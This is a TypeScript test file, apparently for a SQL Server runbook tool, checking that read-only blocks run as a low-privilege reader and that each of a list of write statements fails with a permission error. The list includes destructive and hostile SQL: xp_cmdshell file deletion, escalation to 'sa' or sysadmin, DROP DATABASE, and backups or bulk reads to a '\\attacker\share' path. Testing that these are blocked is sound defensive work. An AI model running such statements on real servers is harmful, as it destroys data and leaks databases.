import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { PlannedBlock, PlannedStep, Target } from '../../src/procedure/plan-types.ts'
import type { BlockContext } from '../../src/worker/context.ts'
import { maskOf } from '../../src/worker/mask.ts'
import type { SqlTarget } from '../../src/worker/options.ts'
import type { BlockEnding } from '../../src/worker/block/block-result.ts'
import { runBlock } from '../../src/worker/block/run-block.ts'
import { openShells } from '../../src/worker/powershell/shells.ts'
import { openSession } from '../../src/worker/sql/session.ts'
import { SessionPool } from '../../src/worker/sql/session-pool.ts'
import { startEstate, type Estate } from '../estate/estate.ts'
import { estateTarget } from './estate-target.ts'

let estate: Estate
let context: BlockContext
let target: SqlTarget
const dir = mkdtempSync(join(tmpdir(), 'reader-'))
const shells = openShells(maskOf([]))
const sessions = new SessionPool('countersign/test/look')
beforeAll(async () => {
  estate = await startEstate({ dir: join(dir, 'estate') })
  target = estateTarget(estate, 'SEC')
  context = { options: { name: 'anna', targets: { SEC: target }, files: dir }, mask: maskOf([]), sessions, shells }
})
afterAll(async () => {
  await Promise.all([sessions.close(), shells.close()])
  await estate.close()
  rmSync(dir, { recursive: true, force: true })
})

/** A block that looks, with whatever stands in it: no loader was asked. */
function look(text: string, database = 'master', role: 'read' | 'before' | 'check' = 'check'): Promise<BlockEnding> {
  const block: PlannedBlock = { role, language: 'sql', target: 'SEC', database, text, uses: [], line: 1 }
  const step = { number: 1, captures: {}, blocks: [block] } as unknown as PlannedStep
  const planned: Target = {
    kind: 'sql-server',
    name: 'SEC',
    host: target.host,
    instance: target.instance ?? '',
    port: target.port,
    reader: target.reader?.user ?? '',
    site: 'dc2',
    practice: true,
  }
  const state = {
    procedure: { id: 'x', parameters: [] },
    values: {},
    captures: {},
    targets: { SEC: planned },
    plan: { targets: { SEC: planned } },
  }
  return runBlock(
    context,
    { index: 0, block },
    {
      state: state as unknown as Parameters<typeof runBlock>[2]['state'],
      order: { item: 0 },
      step,
      rowsBudget: 4000,
      timeoutMs: 20_000,
      signal: new AbortController().signal,
    },
  )
}

const codesOf = ({ result }: BlockEnding): string[] => result.errors.map(({ code = '' }) => code)

describe('a block that looks is sent under the log-in of the reader', () => {
  test.each(['read', 'before', 'check'] as const)('%s', async (role) => {
    const { result } = await look("SELECT who = ORIGINAL_LOGIN(), sysadmin = IS_SRVROLEMEMBER('sysadmin')", 'master', role)
    expect(result).toMatchObject({ ok: true, rows: [{ who: 'countersign_reader', sysadmin: 0 }] })
  })

  test('and sees what the practice documents ask for', async () => {
    const { result } = await look(
      "SELECT jobs = COUNT(*), may = HAS_PERMS_BY_NAME(N'msdb.dbo.restorehistory', N'OBJECT', N'SELECT'), change = HAS_PERMS_BY_NAME(N'msdb.dbo.restorehistory', N'OBJECT', N'DELETE') FROM msdb.dbo.sysjobs",
    )
    expect(result.rows).toEqual([{ jobs: 2, may: 1, change: 0 }])
  })
})

/** What each would do, in which database, with which errors the server stops it. */
const WRITES: [string, string, string[]][] = [
  ["UPDATE msdb.dbo.sysjobs SET enabled = 0 WHERE name LIKE N'LS%'", 'master', ['229']],
  ['WITH old AS (SELECT * FROM dbo.sysjobs) SELECT done = 1; DELETE TOP (5) FROM dbo.restorehistory', 'msdb', ['229']],
  ["DECLARE @s nvarchar(200) = N'DEL' + N'ETE FROM msdb.dbo.backupset'; EXEC (@s)", 'master', ['229']],
  ["EXEC sys.sp_executesql N'EXEC (N''INSERT INTO msdb.dbo.sysjobs (name) VALUES (N''''x'''')'')'", 'master', ['229']],
  ['MERGE dbo.tblComplianceState AS t USING (SELECT a = 1) AS s ON 1 = 1 WHEN MATCHED THEN DELETE', 'mgccomp', ['229']],
  ['SELECT done = 1; TRUNCATE TABLE msdb.dbo.log_shipping_secondary', 'master', ['1088']],
  ['IF 1 = 1 BEGIN DROP TABLE msdb.dbo.backupmediafamily END', 'master', ['3701']],
  ['SELECT done = NEXT VALUE FOR dbo.seqComplianceEntry', 'mgccomp', ['229']],
  ['SELECT name INTO tempdb.dbo.kept FROM sys.databases', 'master', ['262']],
  ['CREATE PROCEDURE dbo.later AS BEGIN EXEC sys.sp_configure END', 'tempdb', ['262']],
  ["EXEC master.sys.xp_cmdshell N'del /q D:\\CsData\\*.mdf'", 'master', ['229']],
  ["EXEC sp_configure 'xp_cmdshell', 1", 'master', ['15247']],
  ["BEGIN TRY RECONFIGURE WITH OVERRIDE END TRY BEGIN CATCH EXECUTE AS LOGIN = N'sa' END CATCH", 'master', ['15406']],
  ["SELECT done = a FROM OPENROWSET(N'MSOLEDBSQL', N'Server=.;Trusted_Connection=yes', N'EXEC sys.sp_who2') AS t", 'master', ['7415']],
  ["SELECT done = BulkColumn FROM OPENROWSET(BULK N'\\\\attacker\\share\\x', SINGLE_BLOB) AS t", 'master', ['4834']],
  ["EXEC (N'DROP DATABASE mgc') AT [SECM]", 'master', ['7202']],
  ['DBCC FREEPROCCACHE', 'master', ['2571']],
  ["DBCC SHRINKDATABASE (N'mgccomp', TRUNCATEONLY)", 'mgccomp', ['7983']],
  ["BACKUP DATABASE mgccomp TO DISK = N'\\\\attacker\\share\\mgc.bak' WITH COPY_ONLY", 'master', ['262', '3013']],
  ['RESTORE DATABASE mgc WITH RECOVERY', 'master', ['3110', '3013']],
  ['ALTER DATABASE mgccomp SET SINGLE_USER WITH ROLLBACK IMMEDIATE', 'master', ['5011', '5069']],
  ['DROP DATABASE mgc', 'master', ['3701']],
  ['KILL 51', 'master', ['6102']],
  ['SHUTDOWN WITH NOWAIT', 'master', ['6004']],
  ["EXEC msdb.dbo.sp_start_job @job_name = N'LSCopy_SQLA1_mgc'", 'master', ['229']],
  ["EXEC master.dbo.sp_delete_log_shipping_secondary_database @secondary_database = N'mgc'", 'master', ['21089']],
  ['GRANT CONTROL SERVER TO countersign_reader', 'master', ['4613']],
  ['ALTER SERVER ROLE sysadmin ADD MEMBER countersign_reader', 'master', ['15151']],
  ["CREATE LOGIN second WITH PASSWORD = N'x'", 'master', ['15247']],
  ["RAISERROR (N'a line in the log of the server', 16, 1) WITH LOG", 'master', ['2778']],
]

describe('a block that looks and would write, sent without a loader, is stopped by the rights of the reader', () => {
  test.each(WRITES)('%s', async (text, database, numbers) => {
    const before = snapshot()
    const ended = await look(text, database)
    expect({ how: ended.how, codes: codesOf(ended) }).toEqual({ how: 'error', codes: numbers })
    expect(snapshot()).toBe(before)
    // It did reach the server.
    expect(estate.log.all.some((logged) => logged.text === text && logged.app === 'countersign/test/look')).toBe(true)
  })

  test('the very same statements are the acting log-in’s to send, or beyond the stand-in, and are never stopped by rights', async () => {
    const rights = new Set(WRITES.flatMap(([, , numbers]) => numbers).filter((number) => number !== '7202'))
    const acting = await openSession(target, { database: 'msdb', appName: 'x', purpose: 'act' })
    if ('refusal' in acting) throw new Error(acting.refusal.code)
    for (const text of [
      'SELECT may = COUNT(*) FROM dbo.sysjobs',
      "EXEC sp_configure 'xp_cmdshell', 1",
      'DBCC FREEPROCCACHE',
      'UPDATE dbo.sysjobs SET enabled = 0',
    ]) {
      const said = await acting.session.ask(text, { ms: 5000 }).then(
        () => [],
        (error: { number: number }) => [String(error.number)],
      )
      expect(said.filter((number) => rights.has(number))).toEqual([])
    }
    await acting.session.close()
  })
})

/** Everything of the estate but who is connected. */
function snapshot(): string {
  const { instances, pool, store, effects } = estate.state
  return JSON.stringify(
    [instances.map(({ databases, msdb, principals }) => [databases, msdb, [...principals]]), pool, store, effects],
    (_, value: unknown) => (typeof value === 'bigint' ? String(value) : value instanceof Map || value instanceof Set ? [...value] : value),
  )
}
